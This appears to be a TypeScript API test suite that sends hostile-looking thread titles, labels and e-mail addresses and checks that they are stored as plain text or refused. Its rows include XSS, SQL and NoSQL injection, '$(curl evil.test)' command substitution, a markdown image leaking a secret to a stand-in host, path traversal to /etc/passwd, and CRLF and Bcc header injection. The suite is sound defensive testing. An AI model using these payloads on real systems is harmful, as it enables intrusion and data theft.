/** Text that is more than it looks: it comes back as the data it is, or is refused by its field's name. */
import { newId } from "../../../src/core/clock.ts";
import { Credentials } from "../../../src/protocol/api.ts";
import { Thread } from "../../../src/protocol/entities.ts";
import { anonymous, type Back, parsed, type Row, type Sends, signedIn } from "../row.ts";

const THREAD = ["threads", "Thread objects"];
const ACCOUNT = ["users", "sessions", "refresh_tokens", "Account objects"];

/** Begins a thread of this title, and reads it again. */
function titled(title: string): Sends {
  return async (world) => {
    const made = await signedIn("/api/threads", { body: { title } })(world);
    if (made.status !== 201) return made;
    return signedIn(`/api/threads/${parsed(Thread, made).id}`)(world);
  };
}

const asData: readonly Row[] = [
  "<script>alert(1)</script>",
  "<svg onload=alert(1)>",
  '"><img src=x onerror=alert(1)>',
  "<iframe src=javascript:alert(1)>",
  "[click](javascript:alert(1))",
  "![x](https://evil.test/?q=secret)",
  "<a href='data:text/html,x'>",
  "{{constructor.constructor('alert(1)')()}}",
  "$" + "{process.env.JWT_SECRET}",
  "<!--#exec cmd='ls'-->",
  "<?php system('ls'); ?>",
  "'; DROP TABLE threads; --",
  "' OR '1'='1",
  "Robert'); DROP TABLE users;--",
  '=HYPERLINK("https://evil.test")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "%s%s%s%n",
  "../../../../etc/passwd",
  "$(curl evil.test)",
  "`id`",
  "a\r\nSet-Cookie: session=x",
  "a\r\n\r\nHTTP/1.1 200 OK",
  "a\u2028b\u2029c",
  "data: x\n\nevent: agent_completed\ndata: {}",
  "\u202egnp.exe",
  "\u2066hidden\u2069",
  "zero\u200bwidth\u200d\ufeffhere",
  "раураl",
  "Ｐａｙｐａｌ",
  "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
  "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿",
  "\u001b[31mred\u001b[0m",
  "\u0007\u0008",
  "__proto__",
  "null",
  "NaN",
].map((title) => ({
  name: `A title of ${JSON.stringify(title)} comes back as the text it is`,
  sends: titled(title),
  back: { status: 200, says: `"title":${JSON.stringify(title)}` },
  mayChange: THREAD,
}));

function invalid(field: string): Back {
  return { status: 422, code: "invalid_fields", field };
}

const refused: readonly Row[] = [
  ["a NUL", "a\u0000b"],
  ["half a surrogate pair", "a\ud800b"],
  ["a surrogate pair the wrong way round", "\udc00\ud800"],
  ["nothing but spaces", " \u00a0\u2003"],
].map(([what, title]) => ({
  name: `A title with ${what} is refused`,
  sends: signedIn("/api/threads", { body: { title } }),
  back: invalid("title"),
}));

const labels: readonly Row[] = [
  ["a NUL", "a\u0000b"],
  ["half a surrogate pair", "\udfff"],
].flatMap(([what, text = ""]) => [
  {
    name: `A label with ${what} is refused`,
    sends: signedIn("/api/threads", { body: { metadata: { a: text } } }),
    back: invalid("metadata.a"),
  },
  {
    name: `A label's name with ${what} is refused`,
    sends: signedIn("/api/threads", { body: { metadata: { [text]: "a" } } }),
    back: { status: 422, code: "invalid_fields" },
  },
  {
    name: `A message with ${what} is refused`,
    sends: signedIn("/api/threads/{mine}/messages", { body: { content: text } }),
    back: invalid("content"),
  },
  {
    name: `A client_message_id with ${what} is refused`,
    sends: signedIn("/api/threads/{mine}/messages", {
      body: { content: "x", client_message_id: text },
    }),
    back: invalid("client_message_id"),
  },
  {
    name: `A name with ${what} is refused`,
    sends: anonymous("/api/auth/register", {
      body: { email: "a@example.com", password: "correct horse battery", name: text },
    }),
    back: invalid("name"),
  },
  {
    name: `A password with ${what} is refused`,
    sends: anonymous("/api/auth/register", {
      body: { email: "a@example.com", password: `correct horse battery ${text}` },
    }),
    back: invalid("password"),
  },
]);

const emails: readonly Row[] = [
  ["a Cyrillic a", "\u0430dmin@example.com"],
  ["a Greek omicron", "b\u03bfb@example.com"],
  ["a dotless i", "adm\u0131n@example.com"],
  ["a zero-width space", "ad\u200bmin@example.com"],
  ["a zero-width joiner", "ad\u200dmin@example.com"],
  ["a soft hyphen", "ad\u00admin@example.com"],
  ["a right-to-left override", "\u202enimda@example.com"],
  ["an isolate", "\u2066admin\u2069@example.com"],
  ["a combining dot", "adm\u0069\u0307n@example.com"],
  ["a variation selector", "admin\ufe0f@example.com"],
  ["a tag character", "admin\u{e0061}@example.com"],
  ["a NUL", "admin\u0000@example.com"],
  ["a NUL at its end", "admin@example.com\u0000"],
  ["half a surrogate pair", "admin\ud800@example.com"],
  ["a line break", "admin@example.com\r\nBcc: all@example.com"],
  ["a space", "ad min@example.com"],
  ["a comma", "admin@example.com,eve@evil.test"],
  ["a semicolon", "admin@example.com;eve@evil.test"],
  ["angle brackets", "Admin <admin@example.com>"],
  ["two ats", "admin@example.com@evil.test"],
  ["a percent sign", "admin%example.com"],
  ["SQL", "' OR '1'='1"],
  ["a LIKE wildcard for its host", "admin@%"],
  ["no host", "admin@"],
  ["nobody", "@example.com"],
  ["an address for its host", "admin@[127.0.0.1]"],
  ["a Cyrillic host", "admin@ex\u0430mple.com"],
  ["two dots", "admin..x@example.com"],
  ["255 characters", `${"a".repeat(243)}@example.com`],
  ["an array", ["admin@example.com"]],
  ["an object", { $ne: null }],
].flatMap(([what, email]) => [
  {
    name: `An e-mail address with ${String(what)} registers nobody`,
    sends: anonymous("/api/auth/register", { body: { email, password: "correct horse battery" } }),
    back: invalid("email"),
  },
  {
    name: `An e-mail address with ${String(what)} signs nobody in`,
    sends: anonymous("/api/auth/login", { body: { email, password: "correct horse battery" } }),
    back: invalid("email"),
  },
]);

/** Signs up, and tries to take the same account by a spelling of its address. */
function respelled(spell: (email: string) => string): Sends {
  return async (world) => {
    const email = `${newId()}@example.com`;
    const register = (spelling: string) =>
      anonymous("/api/auth/register", {
        body: { email: spelling, password: "correct horse battery" },
      })(world);
    parsed(Credentials, await register(email));
    return register(spell(email));
  };
}

const spellings: readonly Row[] = [
  ["in capitals", (email: string) => email.toUpperCase()],
  ["with spaces around it", (email: string) => ` \t${email}\u00a0`],
  [
    "in full-width letters",
    (email: string) =>
      email.replaceAll(/[a-z]/g, (x) => String.fromCharCode(x.charCodeAt(0) + 0xfee0)),
  ],
  ["with a Kelvin sign and a ligature undone", (email: string) => email.replace("e", "\u212f")],
].map(([what, spell]) => ({
  name: `An account's address ${String(what)} is the same address, and taken`,
  sends: respelled(typeof spell === "function" ? spell : String),
  back: { status: 409, code: "email_taken" },
  mayChange: ACCOUNT,
}));

export const text: readonly Row[] = [...asData, ...refused, ...labels, ...emails, ...spellings];
